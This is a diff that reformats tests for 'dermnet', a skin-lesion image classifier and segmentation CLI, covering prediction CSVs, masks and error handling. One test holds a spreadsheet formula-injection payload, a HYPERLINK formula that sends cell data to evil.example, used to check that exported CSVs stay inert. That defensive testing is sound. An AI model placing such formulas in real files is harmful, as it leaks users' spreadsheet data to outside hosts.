@@ -39,21 +39,40 @@ def test_a_classifier_gives_each_image_its_probabilities_and_class(tmp_path):
     images = tmp_path / "images"
     paths = images_on_disk(images)
     out = tmp_path / "predictions.csv"
-    assert cli.main(["predict", str(run), str(images / "a.png"), str(images / "sub"),
-                     str(images / "listed" / "list.csv"), "--out", str(out)]) == 0
+    assert (
+        cli.main(
+            [
+                "predict",
+                str(run),
+                str(images / "a.png"),
+                str(images / "sub"),
+                str(images / "listed" / "list.csv"),
+                "--out",
+                str(out),
+            ]
+        )
+        == 0
+    )
     table = pd.read_csv(out)
     assert list(table.columns) == ["image_id", "image", "predicted", "p_nevus", "p_melanoma", "p_keratosis"]
     assert list(table["image"]) == [str(p) for p in paths] and list(table["image_id"]) == ["a", "b", "c"]
     expected = model.predict(np.stack([resize_bicubic(read_image(p), (32, 32)) for p in paths]), verbose=0)
-    np.testing.assert_allclose(table[["p_nevus", "p_melanoma", "p_keratosis"]].to_numpy(), expected, atol=1e-6)
-    assert list(table["predicted"]) == [["nevus", "melanoma", "keratosis"][k] for k in expected.argmax(axis=1)]
+    np.testing.assert_allclose(
+        table[["p_nevus", "p_melanoma", "p_keratosis"]].to_numpy(), expected, atol=1e-6
+    )
+    assert list(table["predicted"]) == [
+        ["nevus", "melanoma", "keratosis"][k] for k in expected.argmax(axis=1)
+    ]
     assert cli.main(["predict", str(run), str(images), "--tta", "3", "--out", str(out), "--overwrite"]) == 0
     np.testing.assert_allclose(pd.read_csv(out).filter(like="p_").sum(axis=1), 1.0, atol=1e-5)  # pooled views
 
 
 def test_predictions_go_into_the_run_folder_and_replace_nothing_unasked(tmp_path, capsys):
-    run = saved_run(dermnet.build("baseline_cnn", num_classes=2, input_shape=(32, 32, 3)), tmp_path / "run",
-                    ["benign", "malignant"])
+    run = saved_run(
+        dermnet.build("baseline_cnn", num_classes=2, input_shape=(32, 32, 3)),
+        tmp_path / "run",
+        ["benign", "malignant"],
+    )
     images_on_disk(tmp_path / "images")
     assert cli.main(["predict", str(run), str(tmp_path / "images")]) == 0
     written = (run / "predictions.csv").read_bytes()
@@ -67,8 +86,20 @@ def test_a_segmentor_writes_masks_at_each_images_own_size(tmp_path):
     model = dermnet.build("unet", input_shape=(32, 32, 3), depth=2, filters=4)
     run = saved_run(model, tmp_path / "run", ["lesion"])
     paths = images_on_disk(tmp_path / "images")
-    assert cli.main(["predict", str(run), str(tmp_path / "images"), "--out", str(tmp_path / "p.csv"),
-                     "--masks", str(tmp_path / "masks")]) == 0
+    assert (
+        cli.main(
+            [
+                "predict",
+                str(run),
+                str(tmp_path / "images"),
+                "--out",
+                str(tmp_path / "p.csv"),
+                "--masks",
+                str(tmp_path / "masks"),
+            ]
+        )
+        == 0
+    )
     table = pd.read_csv(tmp_path / "p.csv")
     for path, share in zip(sorted(paths), table["lesion_share"]):
         mask = cv2.imread(str(tmp_path / "masks" / f"{path.stem}_lesion.png"), cv2.IMREAD_GRAYSCALE)
@@ -83,8 +114,17 @@ def test_a_bad_image_in_a_later_batch_leaves_the_masks_folder_as_it_was(tmp_path
     (tmp_path / "images" / "z_broken.png").write_bytes(b"not an image")  # sorted last: the last batch
     (tmp_path / "masks").mkdir()
     (tmp_path / "masks" / "mine.png").write_bytes(b"a user's file")
-    command = ["predict", str(run), str(tmp_path / "images"), "--out", str(tmp_path / "p.csv"), "--batch-size", "1",
-               "--masks", str(tmp_path / "masks")]
+    command = [
+        "predict",
+        str(run),
+        str(tmp_path / "images"),
+        "--out",
+        str(tmp_path / "p.csv"),
+        "--batch-size",
+        "1",
+        "--masks",
+        str(tmp_path / "masks"),
+    ]
     assert cli.main(command) == 1 and "z_broken.png" in capsys.readouterr().err
     assert [p.name for p in (tmp_path / "masks").iterdir()] == ["mine.png"]
     (tmp_path / "images" / "z_broken.png").unlink()
@@ -98,10 +138,13 @@ def test_unreadable_lists_and_model_files_are_named(tmp_path, capsys):
     model = dermnet.build("baseline_cnn", num_classes=2, input_shape=(32, 32, 3))
     model.save(tmp_path / "model.keras")
     images_on_disk(tmp_path / "images")
-    (tmp_path / "list.csv").write_text("image\nimages/a.png\n\"\"\nimages/sub/b.png\n")
+    (tmp_path / "list.csv").write_text('image\nimages/a.png\n""\nimages/sub/b.png\n')
     assert cli.main(["predict", str(tmp_path / "model.keras"), str(tmp_path / "list.csv")]) == 1
     assert "list.csv: no image path on lines 3" in capsys.readouterr().err
-    for name, content in (("cut.keras", (tmp_path / "model.keras").read_bytes()[:500]), ("text.keras", b"hello")):
+    for name, content in (
+        ("cut.keras", (tmp_path / "model.keras").read_bytes()[:500]),
+        ("text.keras", b"hello"),
+    ):
         (tmp_path / name).write_bytes(content)
         assert cli.main(["predict", str(tmp_path / name), str(tmp_path / "images")]) == 1
         assert f"{name}: not a Keras model file" in capsys.readouterr().err
@@ -112,8 +155,18 @@ def test_a_bad_image_is_named_and_nothing_is_written(tmp_path, capsys):
     model.save(tmp_path / "model.keras")
     images_on_disk(tmp_path / "images")
     (tmp_path / "images" / "broken.png").write_bytes(b"not an image")
-    assert cli.main(["predict", str(tmp_path / "model.keras"), str(tmp_path / "images"),
-                     "--out", str(tmp_path / "p.csv")]) == 1
+    assert (
+        cli.main(
+            [
+                "predict",
+                str(tmp_path / "model.keras"),
+                str(tmp_path / "images"),
+                "--out",
+                str(tmp_path / "p.csv"),
+            ]
+        )
+        == 1
+    )
     assert "broken.png" in capsys.readouterr().err
     assert not (tmp_path / "p.csv").exists()
     with pytest.raises(SystemExit):  # argparse: images are required
@@ -129,7 +182,7 @@ def test_predictions_csv_holds_no_cell_a_spreadsheet_would_run(tmp_path):
     probabilities stay numbers."""
     import csv
 
-    classes = ["=HYPERLINK(\"http://evil.example/?\"&A1)", "-melanoma", "@nevus"]
+    classes = ['=HYPERLINK("http://evil.example/?"&A1)', "-melanoma", "@nevus"]
     model = dermnet.build("baseline_cnn", num_classes=3, input_shape=(32, 32, 3))
     run = saved_run(model, tmp_path / "run", classes)
     images = tmp_path / "images"
@@ -165,10 +218,15 @@ def test_a_csv_dermnet_wrote_reads_back_whole(tmp_path):
 
 
 def test_a_file_name_that_is_not_utf8_is_refused_before_the_work(tmp_path, capsys):
-    run = saved_run(dermnet.build("baseline_cnn", num_classes=2, input_shape=(32, 32, 3)), tmp_path / "run",
-                    ["benign", "malignant"])
+    run = saved_run(
+        dermnet.build("baseline_cnn", num_classes=2, input_shape=(32, 32, 3)),
+        tmp_path / "run",
+        ["benign", "malignant"],
+    )
     images_on_disk(tmp_path / "images")
-    odd = os.path.join(os.fsencode(tmp_path / "images"), b"caf\xe9.png")  # Latin-1 bytes, as old archives hold
+    odd = os.path.join(
+        os.fsencode(tmp_path / "images"), b"caf\xe9.png"
+    )  # Latin-1 bytes, as old archives hold
     with open(odd, "wb") as file:
         file.write((tmp_path / "images" / "a.png").read_bytes())
     assert cli.main(["predict", str(run), str(tmp_path / "images")]) == 1
